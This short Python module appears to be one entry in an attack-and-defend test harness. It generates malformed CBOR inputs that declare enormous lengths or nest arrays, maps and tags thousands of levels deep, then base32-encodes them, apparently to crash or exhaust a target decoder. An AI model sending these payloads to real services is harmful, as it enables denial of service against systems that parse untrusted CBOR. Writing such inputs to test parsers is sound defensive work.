"""声称极大的、套了一万层的 CBOR。"""

import base64

from attacked import Attempt, Prey


def attack(_: Prey):
    for raw in (
        b"\x9b" + b"\xff" * 8 + b"\0" * 90,
        b"\x5b\x7f" + b"\xff" * 7 + b"\0" * 90,
        b"\xbf" * 100,
        b"\x81" * 10_000,
        b"\xc6" * 10_000,
        b"\xd2\x84" + b"\x9f" * 140,
    ):
        yield Attempt(base64.b32encode(raw).decode().rstrip("="))
